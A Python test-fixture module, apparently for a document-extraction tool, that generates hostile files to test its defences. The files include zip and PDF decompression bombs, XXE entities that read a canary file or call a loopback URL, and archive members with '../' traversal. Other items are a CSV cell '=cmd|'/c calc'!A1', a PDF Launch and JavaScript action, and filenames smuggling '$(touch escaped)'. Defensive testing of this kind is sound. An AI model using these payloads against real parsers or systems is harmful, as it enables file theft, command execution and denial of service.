"""Hostile files, made where they are needed and never kept: bombs, loops, nesting, links out, broken and lying files.

Nothing here does harm by lying on disk; the largest is a few megabytes. CANARY stands in a file outside the folder that
no reader may read, and every address points to a server on loopback that nobody may call.
"""

from __future__ import annotations

import contextlib
import io
import os
import random
import socket
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from extraction_attack_parts import (
    TYPES,
    A,
    P,
    R,
    S,
    W,
    archive,
    chunk,
    deflated,
    docx,
    inline,
    office,
    par,
    pdf,
    png,
    pptx,
    relations,
    shape,
    stream,
    text_pdf,
    xlsx,
)

SUFFIXES = ("pdf", "docx", "pptx", "xlsx", "html", "md", "txt", "csv", "png", "jpg")

Content = bytes | Callable[[Path], None]
Files = Iterator[tuple[str, Content]]


def make_attacks(folder: Path, *, canary: Path, url: str, quick: bool) -> list[str]:
    """Every file, link and pipe below the folder; the names of those that could be made here.

    `quick` leaves out what takes a reader seconds to minutes.
    """
    made = []
    sources = [
        controls(),
        broken_files(),
        entity_files(canary, url),
        link_files(canary, url),
        nested_files(),
        strange_pdf(canary, url),
        pictures(),
        plain_texts(canary, url),
        strange_names(),
    ]
    if not quick:
        sources.append(slow_files())
    for source in sources:
        for name, content in source:
            path = folder / name
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                if callable(content):
                    content(path)
                else:
                    path.write_bytes(content)
            except OSError:
                continue  # this file system has no such name
            made.append(name)
    made.extend(_places(folder, canary))
    return made


def controls() -> Files:
    """Good files: they must be read, however bad the others are."""
    yield "control/a.docx", docx(par("The first pump is ready today."))
    yield "control/b.pptx", pptx(shape("The second pump is ready today."))
    yield "control/c.pdf", text_pdf()
    yield "control/z.docx", docx(par("The last pump is ready today."))


def broken_files() -> Files:
    noise = random.Random(7).randbytes(5000)
    good = {
        "docx": docx(par("The pump is ready.") * 200),
        "pptx": pptx(shape("The pump is ready.") * 200),
        "xlsx": xlsx(inline("The pump is ready.")),
        "pdf": text_pdf(),
        "html": b"<html><body><p>The pump is ready.",
        "png": png(64, 64, rows=zlib.compress(b"\0" * 9 * 64)),
    }
    for suffix in SUFFIXES:
        yield f"broken/empty.{suffix}", b""
        yield f"broken/zeros.{suffix}", b"\0" * 3000
        yield f"broken/blank.{suffix}", b" \n\t\r\n" * 100
        yield f"broken/noise.{suffix}", noise
        if suffix in good:
            whole = good[suffix]
            for share in (10, 50, 90):
                yield f"broken/cut_{share}.{suffix}", whole[: len(whole) * share // 100]
        for other, content in good.items():
            if other != suffix:
                yield f"broken/is_{other}.{suffix}", content
    flipped = bytearray(good["docx"])
    for place in range(60, len(flipped), 97):
        flipped[place] ^= 0xFF
    yield "broken/flipped.docx", bytes(flipped)
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000
    yield "broken/encrypted.docx", compound + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500
    yield "broken/old.docx", compound
    yield "broken/encrypted.pptx", compound + "EncryptedPackage".encode("utf-16-le")
    locked = bytearray(good["docx"])
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # the flag that says a member is encrypted
        start = -1
        while (start := locked.find(mark, start + 1)) >= 0:
            locked[start + place] |= 1
    yield "broken/locked_members.docx", bytes(locked)
    yield "broken/no_parts.docx", archive({"word/": b""})
    yield "broken/no_slides.pptx", office("pptx", {"ppt/presentation.xml": f'<p:presentation xmlns:p="{P}"/>'})
    yield "broken/not_xml.docx", office("docx", {"word/document.xml": b"<w:document><w:body>"})
    yield "broken/missing_parts.xlsx", office("xlsx", {"xl/workbook.xml": f'<workbook xmlns="{S}"/>'})
    yield (
        "broken/utf7.docx",
        office("docx", {"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-x/+AD4-'}),
    )


def entity_files(canary: Path, url: str) -> Files:
    """XML that grows, or that asks for something outside the file."""
    laughs = '<!ENTITY a "haha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    prologs = {
        "laughs": (f"<!DOCTYPE x [{laughs}]>", "&m;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>', "&a;" * 20_000),
        "entity_file": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary.as_uri()}">]>', "ready &a; done"),
        "entity_http": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{url}/entity">]>', "ready &a; done"),
        "dtd_file": (f'<!DOCTYPE x SYSTEM "{canary.as_uri()}">', "ready"),
        "dtd_http": (f'<!DOCTYPE x PUBLIC "-//a//b" "{url}/dtd">', "ready"),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{url}/parameter"> %a;]>', "ready"),
        "xinclude": ("", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'),
        "stylesheet": (f'<?xml-stylesheet type="text/xsl" href="{url}/style"?>', "ready"),
    }
    for name, (prolog, text) in prologs.items():
        yield f"xml/{name}.docx", docx(par(text), prolog=prolog)
        yield f"xml/{name}.pptx", pptx(shape(text), prolog=prolog)
        yield f"xml/{name}.xlsx", xlsx(inline(text), prolog=prolog)
        yield f"xml/{name}.html", f"{prolog}<html><body><p>{text}</p></body></html>".encode()
    rels = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary.as_uri()}">]>{relations(("r1", "image", "&a;", True))}'
    yield "xml/entity_in_relations.docx", docx(par("ready"), word___rels__document_dot_xml_dot_rels=rels)
    yield (
        "xml/entity_in_types.docx",
        archive(
            {
                "[Content_Types].xml": f'<!DOCTYPE x SYSTEM "{url}/types"><Types xmlns="{TYPES}"/>',
                "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{par("ready")}</w:body></w:document>',
            }
        ),
    )


def link_files(canary: Path, url: str) -> Files:
    """References to other machines and other files, and member names that climb out."""
    kinds = ("image", "attachedTemplate", "aFChunk", "hyperlink", "oleObject", "frame", "subDocument", "footnotes")
    rows = [(f"h{kind}", kind, f"{url}/{kind}", True) for kind in kinds]
    rows += [(f"f{kind}", kind, canary.as_uri(), external) for kind in kinds for external in (True, False)]
    rows += [(f"u{kind}", kind, "../" * 12 + str(canary).lstrip("/"), False) for kind in kinds]
    drawing = "".join(
        f'<w:p><w:r><w:drawing><a:blip r:link="{name}" r:embed="{name}"/></w:drawing></w:r></w:p>'
        f'<w:altChunk r:id="{name}"/><w:subDoc r:id="{name}"/>'
        for name, *_ in rows
    )
    body = par("The pump is ready.") + drawing
    yield "links/remote.docx", docx(body, word___rels__document_dot_xml_dot_rels=relations(*rows))
    slides = [("s1", "slide", f"{url}/slide.xml", True), ("s2", "slide", canary.as_uri(), True)]
    pictures = "".join(f'<p:pic><p:blipFill><a:blip r:link="{name}"/></p:blipFill></p:pic>' for name, *_ in rows)
    yield (
        "links/remote.pptx",
        pptx(shape("ready") + pictures, ppt__slides___rels__slide1_dot_xml_dot_rels=relations(*rows)),
    )
    show = f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst>' + "".join(
        f'<p:sldId id="{300 + n}" r:id="{name}"/>' for n, (name, *_) in enumerate(slides)
    )
    yield (
        "links/remote_slides.pptx",
        pptx(
            shape("ready"),
            ppt__presentation_dot_xml=show + "</p:sldIdLst></p:presentation>",
            ppt___rels__presentation_dot_xml_dot_rels=relations(*slides),
        ),
    )
    yield (
        "links/remote_sheets.xlsx",
        xlsx(
            f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{url}/f")</f><v>ready</v></c></row>',
            xl___rels__workbook_dot_xml_dot_rels=relations(
                ("rId1", "worksheet", "worksheets/sheet1.xml", False),
                ("x1", "externalLink", f"{url}/link", True),
                ("x2", "worksheet", canary.as_uri(), True),
            ),
        ),
    )
    climbing: dict[str, bytes | str] = {
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{par("ready")}</w:body></w:document>',
        "../../escaped.txt": "out",
        "/escaped_absolute.txt": "out",
        "word/../../../escaped_inside.txt": "out",
        "..\\..\\escaped_windows.txt": "out",
        "word/media/../../../../escaped.png": png(64, 64, rows=zlib.compress(b"\0" * 9 * 64)),
        str(canary): "out",
    }
    yield "links/climbing.docx", archive(climbing)
    yield (
        "links/climbing_picture.docx",
        docx(
            '<w:p><w:r><w:t>ready</w:t><w:drawing><a:blip r:embed="p"/></w:drawing></w:r></w:p>',
            word___rels__document_dot_xml_dot_rels=relations(("p", "image", "../../../../escaped.png", False)),
        ),
    )
    both = {
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{par("first")}</w:body></w:document>',
        "Word/Document.XML": "<not-the-one/>",
    }
    yield "links/two_cases.docx", archive(both)


def nested_files() -> Files:
    """Depth, width and counts that no person would write."""
    depth = 30_000
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>{par("wide")}</w:tc>'
    yield "nested/grid_span.docx", docx(f"<w:tbl><w:tr>{cell * 3}</w:tr></w:tbl>{par('after')}")
    grown = '<w:trPr><w:gridBefore w:val="99999999"/><w:gridAfter w:val="-5"/></w:trPr>'
    yield "nested/grid_before.docx", docx(f"<w:tbl><w:tr>{grown}<w:tc>{par('far')}</w:tc></w:tr></w:tbl>")
    table = '<a:tbl><a:tr><a:tc gridSpan="99999999" rowSpan="99999999"><a:txBody><a:p><a:r><a:t>wide</a:t></a:r></a:p>'
    frame = f"<p:graphicFrame><a:graphic><a:graphicData>{table}</a:txBody></a:tc></a:tr></a:tbl></a:graphicData>"
    yield "nested/grid_span.pptx", pptx(f"{frame}</a:graphic></p:graphicFrame>")
    yield "nested/tables.docx", docx("<w:tbl><w:tr><w:tc>" * 3000 + par("deep") + "</w:tc></w:tr></w:tbl>" * 3000)
    yield "nested/controls.docx", docx("<w:sdt><w:sdtContent>" * depth + par("x") + "</w:sdtContent></w:sdt>" * depth)
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>i</w:t></w:r></w:p>'
    )
    yield "nested/list_level.docx", docx("".join(item.format(level) for level in (0, 9, 10**9, -3, "x", "")))
    styles = f'<w:styles xmlns:w="{W}"><w:style w:styleId="a" w:type="paragraph"><w:basedOn w:val="b"/></w:style>'
    styles += '<w:style w:styleId="b" w:type="paragraph"><w:basedOn w:val="a"/></w:style></w:styles>'
    looped = '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>ready</w:t></w:r></w:p>'
    rels = relations(("s", "styles", "styles.xml", False), ("n", "numbering", "numbering.xml", False))
    yield (
        "nested/style_loop.docx",
        docx(looped, word__styles_dot_xml=styles, word___rels__document_dot_xml_dot_rels=rels),
    )
    yield "nested/groups.pptx", pptx("<p:grpSp>" * depth + shape("deep") + "</p:grpSp>" * depth)
    yield "nested/runs.docx", docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 200_000 + "</w:p>")
    yield "nested/breaks.docx", docx("<w:p><w:r>" + '<w:br w:type="page"/>' * 50_000 + "<w:t>end</w:t></w:r></w:p>")
    yield (
        "nested/math.docx",
        docx(f'<w:p xmlns:m="urn:m">{"<m:e>" * depth}<m:r><m:t>x</m:t></m:r>{"</m:e>" * depth}</w:p>'),
    )
    yield "nested/xml.xlsx", xlsx("<row>" * depth + "</row>" * depth)
    yield (
        "nested/corner.xlsx",
        xlsx(inline("corner", "XFD1048576"), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    )
    yield "nested/beyond.xlsx", xlsx('<row r="99999999999"><c r="ZZZZZZ99999999999" t="s"><v>77777</v></c></row>')
    yield "nested/numbers.xlsx", xlsx('<row r="1"><c r="A1" s="5"><v>1e999</v></c><c r="B1" t="d"><v>nan</v></c></row>')
    html = b"<html><body>"
    yield "nested/divs.html", html + b"<div>" * 100_000 + b"deep" + b"</div>" * 100_000
    yield "nested/tables.html", html + b"<table><tr><td>" * 5000 + b"deep"
    yield "nested/lists.html", html + b"<ul><li>" * 20_000 + b"deep"
    yield (
        "nested/spans.html",
        html + b'<table><tr><td colspan="999999999" rowspan="999999999">wide</td><td>b</td></tr></table>',
    )
    yield "nested/unclosed.html", html + b"<b><i><a>" * 50_000
    yield "nested/attributes.html", b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">ready</p>"
    yield "nested/quotes.md", b">" * 50_000 + b" deep"
    yield "nested/brackets.md", b"[" * 50_000 + b"](" * 50_000
    yield "nested/stars.md", b"*a **b " * 20_000
    yield "nested/list.md", b"".join(b" " * n + b"- x\n" for n in range(2000))
    yield "nested/table.md", b"|a" * 50_000 + b"|\n" + b"|-" * 50_000 + b"|\n|b|\n"
    yield "nested/columns.csv", b",".join(b"%d" % n for n in range(300_000)) + b"\n1,2\n"
    members: dict[str, bytes | str] = {f"word/x{n}.xml": "" for n in range(30_000)}
    yield "nested/members.docx", docx(par("ready"), **members)


def slow_files() -> Files:
    """Bombs: small on disk, huge when opened."""
    yield "bombs/member.docx", _bomb("docx", "word/document.xml", 1024)
    yield "bombs/spaces.pptx", _bomb("pptx", "ppt/slides/slide1.xml", 1024)
    yield "bombs/strings.xlsx", _bomb("xlsx", "xl/sharedStrings.xml", 1024)
    inner = archive({"data.bin": b"\0" * 2**24})
    for level in range(8):
        inner = archive({f"level{level}_{copy}.zip": inner for copy in range(6)})
    yield "bombs/nested_archive.docx", docx(par("ready"), word__embeddings__inner_dot_zip=inner)
    lying = bytearray(_zip_with_bomb("docx", "word/document.xml", 300))
    place = -1
    while (place := lying.find(b"PK\x01\x02", place + 1)) >= 0:
        lying[place + 24 : place + 28] = struct.pack("<I", 100)  # the size the directory tells
    yield "bombs/lying_size.docx", bytes(lying)
    spaces = deflated(b" ", 1024)
    yield "bombs/flate.pdf", text_pdf(stream(spaces, b"/Filter/FlateDecode"))
    twice = zlib.compress(deflated(b"\0", 1024), 9)
    yield "bombs/flate_twice.pdf", text_pdf(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    texts = deflated(b"BT /F1 12 Tf 50 700 Td (The pump is ready.) Tj ET\n", 200)
    yield "bombs/text.pdf", text_pdf(stream(texts, b"/Filter/FlateDecode"))
    letters = deflated(b"<w:p><w:r><w:t>The pump is ready.</w:t></w:r></w:p>", 150)
    yield "bombs/paragraphs.docx", docx_of_stream(letters, 150)
    million = b"[" + b"3 0 R " * 1_000_000 + b"]"
    yield (
        "bombs/million_pages.pdf",
        pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids%b/Count 1000000>>" % million,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            stream(b"BT /F1 12 Tf 50 700 Td (ready) Tj ET"),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ),
    )
    image = deflated(b"\0", 2048)
    big = b"/Type/XObject/Subtype/Image/Width 131072/Height 131072/ColorSpace/DeviceGray/BitsPerComponent 1"
    yield (
        "bombs/image.pdf",
        text_pdf(
            stream(b"q 612 0 0 792 0 0 cm /X Do Q"),
            more=(stream(image, big + b"/Filter/FlateDecode"), stream(b"", b"")),
        ),
    )
    picture = png(131_000, 131_000, rows=deflated(b"\0", 2048))
    yield "bombs/pixels.png", picture
    yield (
        "bombs/pixels.docx",
        docx(
            '<w:p><w:r><w:t>ready</w:t><w:drawing><a:blip r:embed="p"/></w:drawing></w:r></w:p>',
            word__media__p_dot_png=picture,
            word___rels__document_dot_xml_dot_rels=relations(("p", "image", "media/p.png", False)),
        ),
    )
    yield "bombs/comment.png", png(64, 64, chunks=chunk(b"zTXt", b"a\0\0" + deflated(b"a", 1024)))
    yield "bombs/line.txt", _large(b"pump ", 80)
    yield "bombs/line.csv", _large(b"pump ", 80)
    yield "bombs/line.html", _large(b"pump ", 80)
    yield "bombs/line.md", _large(b"pump ", 80)
    yield "bombs/rows.csv", _large(b"a,b,c\n", 60)
    yield "bombs/cells.xlsx", xlsx('<row r="1">' + '<c t="inlineStr"><is><t>a</t></is></c>' * 16_000 + "</row>")


def _zip_with_bomb(kind: str, member: str, megabytes: int) -> bytes:
    opening = {
        "docx": f'<w:document xmlns:w="{W}"><w:body>{par("ready")}',
        "pptx": f'<p:sld xmlns:p="{P}" xmlns:a="{A}"><p:cSld><p:spTree>{shape("ready")}',
        "xlsx": f'<sst xmlns="{S}"><si><t>ready</t></si>',
    }[kind]
    closing = {
        "docx": "</w:body></w:document>",
        "pptx": "</p:spTree></p:cSld></p:sld>",
        "xlsx": "</sst>",
    }[kind]
    make = {"docx": lambda: docx(""), "pptx": lambda: pptx(""), "xlsx": lambda: xlsx(inline("ready"))}[kind]
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(make())) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for name in source.namelist():
            if name != member:
                target.writestr(name, source.read(name))
        with target.open(member, "w", force_zip64=True) as out:
            out.write(opening.encode())
            for _ in range(megabytes):
                out.write(b" " * 2**20)
            out.write(closing.encode())
    return buffer.getvalue()


def _bomb(kind: str, member: str, megabytes: int) -> Callable[[Path], None]:
    return lambda path: _keep(path, _zip_with_bomb(kind, member, megabytes))


def _keep(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def docx_of_stream(squeezed: bytes, megabytes: int) -> Callable[[Path], None]:
    """A document of very many paragraphs, below the limits on single members."""

    def write(path: Path) -> None:
        body = zlib.decompress(squeezed)[: megabytes * 2**20]
        body = body[: body.rfind(b"</w:p>") + 6]
        xml = f'<w:document xmlns:w="{W}"><w:body>'.encode() + body + b"</w:body></w:document>"
        path.write_bytes(office("docx", {"word/document.xml": xml}))

    return write


def _large(pattern: bytes, megabytes: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        piece = (pattern * (2**20 // len(pattern) + 1))[: 2**20 // len(pattern) * len(pattern)]
        with path.open("wb") as out:
            for _ in range(megabytes):
                out.write(piece)

    return write


def strange_pdf(canary: Path, url: str) -> Files:
    """Loops, lies and links in PDF."""
    loop = stream(
        b"q /X Do /Y Do Q", b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 6 0 R/Y 7 0 R>>>>"
    )
    yield "pdf/form_loop.pdf", text_pdf(stream(b"/X Do"), more=(loop, loop))
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    yield "pdf/page_loop.pdf", pdf(catalog, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    two = (b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>")
    yield "pdf/page_ring.pdf", pdf(catalog, *two)
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    yield "pdf/count_lies.pdf", pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", leaf)
    yield "pdf/count_negative.pdf", pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count -7>>", leaf)
    good = text_pdf()
    start = good.rfind(b"startxref")
    yield "pdf/xref_wrong.pdf", good[:start] + b"startxref\n999999999\n%%EOF"
    yield "pdf/xref_zero.pdf", good[:start] + b"startxref\n0\n%%EOF"
    yield "pdf/xref_shifted.pdf", b"%PDF-1.4\n" + b"%" * 333 + b"\n" + good[9:]
    previous = text_pdf().replace(b"/Root", b"/Prev %d/Root" % good.rfind(b"xref\n0"))
    yield "pdf/xref_ring.pdf", previous
    yield "pdf/no_trailer.pdf", good[: good.find(b"xref\n")]
    for name, box in {
        "huge": b"0 0 1e30 1e30",
        "infinite": b"0 0 9" + b"9" * 400 + b" 1",
        "negative": b"600 800 -5 -9",
        "empty": b"0 0 0 0",
        "words": b"/a (b) null",
    }.items():
        yield f"pdf/box_{name}.pdf", good.replace(b"0 0 612 792", box)
    yield "pdf/user_unit.pdf", text_pdf(page=b"/UserUnit 1e20/Rotate 123457")
    deep = b"[" * 100_000 + b"]" * 100_000
    yield "pdf/arrays.pdf", text_pdf(page=b"/Deep %b" % deep)
    yield "pdf/dictionaries.pdf", text_pdf(page=b"/Deep %b" % (b"<</a " * 20_000 + b"1" + b">>" * 20_000))
    yield "pdf/operators.pdf", text_pdf(stream(b"q " * 300_000))
    yield "pdf/brackets.pdf", text_pdf(stream(b"BT /F1 12 Tf " + b"(" * 100_000 + b" Tj ET"))
    yield "pdf/glyphs.pdf", text_pdf(stream(b"BT /F1 0.001 Tf 50 700 Td (" + b"pump " * 40_000 + b") Tj ET"))
    yield "pdf/same_place.pdf", text_pdf(stream(b"BT /F1 12 Tf " + b"1 0 0 1 50 700 Tm (pump) Tj " * 20_000 + b"ET"))
    yield "pdf/length_lies.pdf", good.replace(b"/Length 55", b"/Length 99999999")
    outline = (b"<</First 6 0 R/Last 6 0 R/Count 1>>",)
    yield (
        "pdf/outline_loop.pdf",
        text_pdf(catalog=b"/Outlines 6 0 R", more=(b"<</Title(a)/Next 6 0 R/First 6 0 R>>", *outline)),
    )
    yield (
        "pdf/file_stream.pdf",
        text_pdf(b"<</Length 0/F(%b)/FFilter[]>>\nstream\n\nendstream" % os.fsencode(str(canary))),
    )
    address = b"<</FS/URL/F(%b/pdf)>>" % url.encode()
    yield "pdf/url_stream.pdf", text_pdf(b"<</Length 0/F %b>>\nstream\n\nendstream" % address)
    actions = (
        b"/OpenAction<</S/URI/URI(%b/open)/Next<</S/Launch/F(%b)>>>>"
        b"/AA<</WC<</S/JavaScript/JS(app.launchURL('%b/js'))>>>>"
    )
    yield "pdf/actions.pdf", text_pdf(catalog=actions % (url.encode(), os.fsencode(str(canary)), url.encode()))
    yield (
        "pdf/xfa.pdf",
        text_pdf(
            catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>",
            more=(stream(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary.as_uri()}">]><x>&a;</x>'.encode()),),
        ),
    )
    yield "pdf/password.pdf", _locked_pdf
    yield "pdf/header_late.pdf", b"x" * 1000 + good
    rich = rb"{\rtf1\ansi The pump {\field{\*\fldinst INCLUDEPICTURE %b/rtf}} is ready.}" % url.encode()
    yield "pdf/starts_as_rtf.pdf", rich + b"\n" + good
    yield "pdf/starts_as_html.pdf", b'<html><body><img src="%b/html"></body></html>' % url.encode() + good
    yield (
        "pdf/starts_as_svg.pdf",
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%b/svg"/></svg>' % url.encode() + good,
    )
    yield "pdf/header_only.pdf", b"%PDF-1.7\n%%EOF"
    yield "pdf/nul.pdf", good.replace(b"pump", b"p\0mp")
    object_stream = b"6 0 " + b"<</a 6 0 R>>"
    yield (
        "pdf/object_stream_loop.pdf",
        text_pdf(more=(stream(object_stream, b"/Type/ObjStm/N 1/First 4/Extends 6 0 R"), b"7 0 R")),
    )


def _locked_pdf(path: Path) -> None:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    canvas = Canvas(str(path), encrypt=StandardEncryption("swordfish", ownerPassword="owner"), invariant=1)
    canvas.drawString(72, 720, "The pump is ready.")
    canvas.save()


def pictures() -> Files:
    """Pictures that lie about their size or stop in the middle."""
    yield "pictures/dimensions.png", png(2**31 - 1, 2**31 - 1, rows=zlib.compress(b"\0" * 100))
    yield "pictures/zero.png", png(0, 0, rows=b"")
    yield "pictures/tiny.png", png(1, 1, rows=zlib.compress(b"\0\0"))
    yield "pictures/no_data.png", png(640, 480)
    yield "pictures/short_data.png", png(640, 480, rows=zlib.compress(b"\0" * 81)[:20])
    jpeg = (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"
    )
    yield "pictures/dimensions.jpg", jpeg + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01" + b"\xff\xda" + b"\0" * 500
    yield "pictures/start_only.jpg", b"\xff\xd8\xff"
    yield "pictures/markers.jpg", b"\xff\xd8" + b"\xff\xd8\xff\xe1\x00\x02" * 50_000
    tiff = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 10**9) + struct.pack("<I", 8)
    yield "pictures/ring.tif", tiff
    yield "pictures/ring.tiff", tiff
    gif = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0)
    yield "pictures/screen.gif", gif + b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x08\x01\0\0\x3b"
    yield (
        "pictures/screen.bmp",
        b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
    )
    yield "pictures/screen.webp", b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6
    broken = png(64, 64, rows=b"nonsense")
    yield (
        "pictures/inside.docx",
        docx(
            '<w:p><w:r><w:t>The pump is ready.</w:t><w:drawing><a:blip r:embed="p"/></w:drawing></w:r></w:p>',
            word__media__p_dot_png=broken,
            word___rels__document_dot_xml_dot_rels=relations(("p", "image", "media/p.png", False)),
        ),
    )


def plain_texts(canary: Path, url: str) -> Files:
    """Encodings, control characters, and pages that ask for more."""
    text = "The pump of Zoë is ready. Größe: 40 Liter. 水泵已经准备好了。"
    encodings = ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "gb18030", "utf-7")
    for suffix in ("txt", "md", "csv", "html"):
        for encoding in encodings:
            yield f"plain/{encoding}.{suffix}", text.encode(encoding)
        yield f"plain/latin1.{suffix}", "Größe der Pumpe: 40 Liter".encode("latin-1")
        yield f"plain/mixed.{suffix}", text.encode() + b"\xff\xfe\x80" + text.encode("utf-16-le")
        yield f"plain/surrogates.{suffix}", b"pump \xed\xa0\x80\xed\xb0\x80 ready"
        yield f"plain/nul.{suffix}", b"The pump\0is\0ready.\n" * 50
        yield f"plain/controls.{suffix}", bytes(range(32)) * 20 + b"The pump is ready.\x1b[2J\x07"
        yield f"plain/returns.{suffix}", b"The pump\ris ready\r\rtoday\x0b\x0c\x85\n"
    yield "plain/charset_unknown.html", b'<meta charset="klingon-7"><p>The pump is ready.</p>'
    yield "plain/charset_codec.html", b'<meta charset="zip"><p>The pump is ready.</p>'
    yield "plain/field.csv", b'a,"' + b"x" * 300_000 + b'"\n1,2\n'
    yield "plain/open_quote.csv", b'a,b\n1,"open\n' * 2000
    yield "plain/ragged.csv", b"a,b,c\n1\n1,2,3,4,5,6\n\n,,,\n"
    yield "plain/formula.csv", f"a,b\n=WEBSERVICE(\"{url}/csv\"),=cmd|'/c calc'!A1\n".encode()
    page = (
        f'<html><head><base href="{url}/"><link rel=stylesheet href="{url}/css"><script src="{url}/js"></script>'
        f'<meta http-equiv=refresh content="0;url={url}/go"><style>@import url("{url}/import")</style></head><body>'
        f'<p>ready</p><img src="{url}/img"><img src="{canary.as_uri()}"><iframe src="{canary.as_uri()}"></iframe>'
        f'<object data="{url}/obj"></object><embed src="{url}/embed"><video poster="{url}/video"></video>'
        f'<script>fetch("{url}/fetch")</script><!--#include file="{canary}"--></body></html>'
    )
    yield "plain/remote.html", page.encode()
    yield "plain/remote.md", f"# Pump\n\n![a]({url}/md) ![b]({canary.as_uri()}) [c]: {url}/ref\n\n{page}".encode()


def strange_names() -> Files:
    """Good files under bad names."""
    good = docx(par("The pump is ready."))
    for name in (
        "new\nline.docx",
        "tab\tand\rreturn.docx",
        "-rf.docx",
        "$(touch escaped).docx",
        'quote\'s "double" `tick`.docx',
        "back\\slash.docx",
        "right\u202eleft.docx",
        "café.docx",
        "cafe\u0301.docx",
        "水泵 🚰.docx",
        f"{'n' * 250}.docx",
        "UPPER.DOCX",
        "trailing .docx",
        "two..dots..docx",
        ".hidden.docx",
        "~$lock.docx",
        "half.docx.part",
        "none",
        "strange.xyz",
        "%2e%2e%2fescaped.docx",
    ):
        yield f"names/{name}", good
    yield os.fsdecode(b"names/not\xff\xfeutf8.docx"), good
    yield "names/folder.pdf/inside.docx", good


def _places(folder: Path, canary: Path) -> Iterator[str]:
    """Links, pipes, sockets, devices, folders and files that may not be opened, and a path longer than the system's."""
    places = folder / "places"
    places.mkdir(parents=True, exist_ok=True)

    def attempt(name: str, make: Callable[[Path], object]) -> Iterator[str]:
        with contextlib.suppress(OSError):
            make(places / name)
            yield f"places/{name}"

    yield from attempt("link_out.txt", lambda path: path.symlink_to(canary))
    yield from attempt("link_out.docx", lambda path: path.symlink_to(canary))
    yield from attempt("link_up", lambda path: path.symlink_to(folder.parent, target_is_directory=True))
    yield from attempt("link_ring", lambda path: path.symlink_to(folder, target_is_directory=True))
    yield from attempt("link_self.docx", lambda path: path.symlink_to(path))
    yield from attempt("link_nowhere.docx", lambda path: path.symlink_to(folder / "nothing"))
    yield from attempt("link_in.docx", lambda path: path.symlink_to(folder / "control" / "a.docx"))
    yield from attempt("link_device.pdf", lambda path: path.symlink_to("/dev/zero"))
    if hasattr(os, "mkfifo"):
        yield from attempt("pipe.pdf", os.mkfifo)
        yield from attempt("pipe.txt", os.mkfifo)
    if hasattr(os, "mknod"):
        zero = os.makedev(1, 5) if hasattr(os, "makedev") else 0
        yield from attempt("device.pdf", lambda path: os.mknod(path, stat.S_IFCHR | 0o666, zero))
    if hasattr(socket, "AF_UNIX"):
        with contextlib.suppress(OSError):
            holder = socket.socket(socket.AF_UNIX)
            try:
                holder.bind(str(places / "socket.docx"))
                yield "places/socket.docx"
            finally:
                holder.close()

    def forbidden(path: Path) -> None:
        path.write_bytes(docx(par("secret")))
        path.chmod(0)

